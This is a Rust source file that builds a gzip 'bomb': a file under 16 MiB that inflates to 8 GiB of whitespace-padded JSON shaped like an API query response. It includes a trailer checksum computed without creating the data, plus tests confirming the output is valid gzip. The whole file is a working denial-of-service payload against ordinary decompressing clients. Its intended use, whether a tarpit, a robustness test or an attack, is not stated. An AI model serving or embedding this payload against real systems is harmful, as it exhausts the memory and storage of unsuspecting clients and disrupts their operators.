//! A small gzip file that decompresses to 8 GiB of valid JSON: an empty list of records, filled with white space.
//!
//! Its parts are compressed once and repeated. A full flush aligns the end of each part to a byte and resets the
//! compressor's dictionary, so that parts can be concatenated.

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

const OPENING: &[u8] = br#"{"totalSize":1,"done":true,"records":["#;
const CLOSING: &[u8] = b"]}";
const BLOCK: usize = 1 << 20;
/// The number of blocks that are sent together.
const BATCH: usize = 32;
const TIMES: usize = 256;
/// Magic number, deflate, no flags, no time, no hints, unknown system.
const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// A gzip file in parts: `head`, `times` times `block`, and `tail`.
pub(crate) struct Bomb {
    pub(crate) head: Bytes,
    pub(crate) block: Bytes,
    pub(crate) times: usize,
    pub(crate) tail: Bytes,
}

impl Bomb {
    pub(crate) fn new() -> Bomb {
        let spaces = vec![b' '; BLOCK];
        let head = [&GZIP_HEADER[..], &deflate(OPENING, FlushCompress::Full)].concat();
        let block = deflate(&spaces, FlushCompress::Full).repeat(BATCH);
        let mut tail = deflate(CLOSING, FlushCompress::Finish);
        tail.extend(checksum(&spaces));
        Bomb { head: head.into(), block: block.into(), times: TIMES, tail: tail.into() }
    }

    pub(crate) fn len(&self) -> u64 {
        (self.head.len() + self.times * self.block.len() + self.tail.len()) as u64
    }
}

fn deflate(bytes: &[u8], flush: FlushCompress) -> Vec<u8> {
    let mut packed = Vec::with_capacity(bytes.len() / 256 + 256);
    // The capacity is ample for white space, and compressing into memory cannot fail then.
    let _ = Compress::new(Compression::best(), false).compress_vec(bytes, &mut packed, flush);
    packed
}

/// Returns the trailer of the gzip file: the CRC and the length of the decompressed data, computed without creating it.
fn checksum(block: &[u8]) -> impl Iterator<Item = u8> {
    let of = |bytes: &[u8]| {
        let mut crc = Crc::new();
        crc.update(bytes);
        crc
    };
    let mut whole = of(OPENING);
    let block = of(block);
    (0..BATCH * TIMES).for_each(|_| whole.combine(&block));
    whole.combine(&of(CLOSING));
    let length = OPENING.len() + BATCH * TIMES * BLOCK + CLOSING.len();
    [whole.sum().to_le_bytes(), (length as u32).to_le_bytes()].into_iter().flatten()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    #[ignore = "unpacks 8 GiB"]
    fn is_a_valid_gzip_file() {
        let bomb = Bomb::new();
        let body = bomb.block.repeat(bomb.times);
        let file = [&bomb.head[..], &body, &bomb.tail].concat();
        let mut reader = flate2::read::GzDecoder::new(&file[..]);
        let length = std::io::copy(&mut reader, &mut std::io::sink()).unwrap();
        assert_eq!(length >> 33, 1);
    }

    #[test]
    fn unpacks_to_json_at_both_ends() {
        let bomb = Bomb::new();
        assert!(bomb.len() < 16 << 20);
        let mut start = vec![0; OPENING.len() + 2 * BLOCK];
        let file = [&bomb.head[..], &bomb.block].concat();
        flate2::read::GzDecoder::new(&file[..]).read_exact(&mut start).unwrap();
        assert!(start.starts_with(OPENING) && start.ends_with(b"  "));
    }
}
